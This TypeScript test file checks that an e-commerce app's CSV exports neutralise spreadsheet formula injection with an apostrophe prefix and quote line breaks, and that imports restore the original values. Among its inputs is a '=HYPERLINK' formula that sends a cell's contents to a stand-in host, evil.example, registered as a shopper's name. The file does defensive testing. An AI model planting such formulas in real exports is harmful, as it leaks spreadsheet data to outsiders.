import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CATALOGUE_CSV_COLUMNS } from '../../src/contract/data.ts';
import { products } from '../../src/server/db/schema.ts';
import { type MadeUser, makeAdmin, makeCategory, makeProduct, multipart } from '../factories.ts';
import { call, createTestApp, type TestApp } from '../setup/test-app.ts';

/** What a spreadsheet program would run as a formula: a cell starting with one of OWASP's characters. */
const FORMULA = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';

/** The body's cells as a spreadsheet reads them (quotes taken off, nothing else). */
const cellsOf = (body: string) => parse(body, { bom: true, relax_column_count: true }) as string[][];

/**
 * Every line break inside a cell is inside quotes: splitting the body at the quoted cells' ends leaves
 * no bare CR or LF but the CRLF row ends.
 */
function expectLineBreaksQuoted(body: string): void {
  const outsideQuotes = body.replace(/"(?:[^"]|"")*"/g, '""');
  expect(outsideQuotes.split('\r\n').every((line) => !/[\r\n]/.test(line))).toBe(true);
}

describe('exports never hand a spreadsheet a formula, and quote every line break', () => {
  let t: TestApp;
  let admin: MadeUser;
  let categoryName: string;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await makeAdmin(t.database.db, { name: '@SUM(1+1)*cmd' });
    const category = await makeCategory(t.database.db, '-Sale- Corner');
    categoryName = category.name;
    await makeProduct(t.database.db, { categoryId: category.id, name: '+Plus Lamp', description: '-50% off, this week only', price: 12.5, quantity: 50 });
  });
  afterAll(() => t.close());

  it('orders.csv: a shopper named as a formula, an address with a bare line feed, a phone starting with +', async () => {
    const register = await call(t.app, 'POST', '/api/v1/auth/register', {
      body: { name: HYPERLINK, email: 'formula@example.com', password: 'formula-pass', phone: '+1 555 0100', address: '1 Main Street\nFlat 2', answer: 'Polo' },
    });
    expect(register.statusCode).toBe(201);
    const login = await call(t.app, 'POST', '/api/v1/auth/login', { body: { email: 'formula@example.com', password: 'formula-pass' } });
    const [product] = await t.database.db.select({ id: products.id }).from(products).where(eq(products.name, '+Plus Lamp'));
    const order = await call(t.app, 'POST', '/api/v1/auth/orders', { token: login.json().token, body: { cart: [{ _id: String(product?.id) }] } });
    expect(order.statusCode).toBe(201);

    const res = await call(t.app, 'GET', '/api/v1/admin/orders.csv', { token: admin.token });
    expect(res.statusCode).toBe(200);
    expectLineBreaksQuoted(res.body);
    expect(res.body).toContain('"1 Main Street\nFlat 2"');
    const [header, ...rows] = cellsOf(res.body);
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries((header ?? []).map((name, index) => [name, rows[0]?.[index] ?? '']));
    for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
    expect(Object.values(row)).toContain(`'${HYPERLINK}`);
    expect(Object.values(row)).toContain("'+1 555 0100");
    expect(Object.values(row)).toContain("'+Plus Lamp");
    expect(Object.values(row)).toContain('1 Main Street\nFlat 2');
  });

  it('audit.csv: an administrator named as a formula', async () => {
    const created = await call(t.app, 'POST', '/api/v1/category/create-category', { token: admin.token, body: { name: '=1+2 Gifts' } });
    expect(created.statusCode).toBe(201);
    const res = await call(t.app, 'GET', '/api/v1/admin/audit.csv', { token: admin.token });
    expect(res.statusCode).toBe(200);
    expectLineBreaksQuoted(res.body);
    const [, ...rows] = cellsOf(res.body);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    expect(rows.map((row) => row[1])).toContain("'@SUM(1+1)*cmd");
  });

  it('products.csv: names, descriptions and categories that look like formulas are neutralised, and import back unchanged', async () => {
    const category = await makeCategory(t.database.db, '@Home');
    const tricky = [
      { name: '=2+3', description: '-20 degrees: keeps drinks cold' },
      { name: "'=Already quoted", description: "'An apostrophe first, then text" },
      { name: "''=Two apostrophes", description: '@handle in the first line\nand a second line' },
      { name: "'Plain apostrophe", description: 'Tab\tinside, not first' },
    ];
    for (const [index, fields] of tricky.entries()) {
      await makeProduct(t.database.db, { categoryId: category.id, ...fields, price: 5 + index, quantity: index });
    }
    const res = await call(t.app, 'GET', '/api/v1/admin/products.csv', { token: admin.token });
    expect(res.statusCode).toBe(200);
    expectLineBreaksQuoted(res.body);
    const [header, ...rows] = cellsOf(res.body);
    expect(header).toEqual([...CATALOGUE_CSV_COLUMNS]);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    const byName = new Map(rows.map((row) => [row[1], row]));
    expect(byName.get("'=2+3")?.[2]).toBe("'-20 degrees: keeps drinks cold");
    expect(byName.get("'=2+3")?.[6]).toBe("'@Home");
    expect(byName.get("''=Already quoted")?.[2]).toBe("'An apostrophe first, then text");
    expect(byName.get("'''=Two apostrophes")?.[2]).toBe("'@handle in the first line\nand a second line");
    expect(byName.get("'Plain apostrophe")?.[2]).toBe('Tab\tinside, not first');
    expect(byName.get("'+Plus Lamp")?.[6]).toBe(`'${categoryName}`);
    // Prices and quantities are numbers, never neutralised.
    expect(byName.get("'=2+3")?.slice(3, 5)).toEqual(['5.00', '0']);

    // The file as exported imports as 0 changes: the apostrophes come off again.
    const upload = async (csv: string, apply = false) => {
      const form = await multipart(apply ? { apply: 'true' } : {}, { field: 'file', data: Buffer.from(csv), filename: 'catalogue.csv', type: 'text/csv' });
      return call(t.app, 'POST', '/api/v1/admin/products-import', { token: admin.token, headers: form.headers, body: form.payload });
    };
    const dry = await upload(res.body);
    expect(dry.statusCode).toBe(200);
    expect(dry.json().summary).toMatchObject({ rows: rows.length, create: 0, update: 0, unchanged: rows.length, error: 0 });

    // A file a spreadsheet wrote, with its own text apostrophe before a formula-like name: stored without it.
    const written = `\uFEFF${stringify(
      [{ slug: '', name: "'=Made in a spreadsheet", description: "'-5 and counting", price: '7', quantity: '1', shipping: 'no', category: "'@Home" }],
      { header: true, columns: ['slug', 'name', 'description', 'price', 'quantity', 'shipping', 'category'], record_delimiter: 'windows' },
    )}`;
    const applied = await upload(written, true);
    expect(applied.statusCode).toBe(200);
    expect(applied.json().summary).toMatchObject({ create: 1, error: 0 });
    const [stored] = await t.database.db.select().from(products).where(eq(products.name, '=Made in a spreadsheet'));
    expect(stored).toMatchObject({ description: '-5 and counting', categoryId: category.id });
  });
});
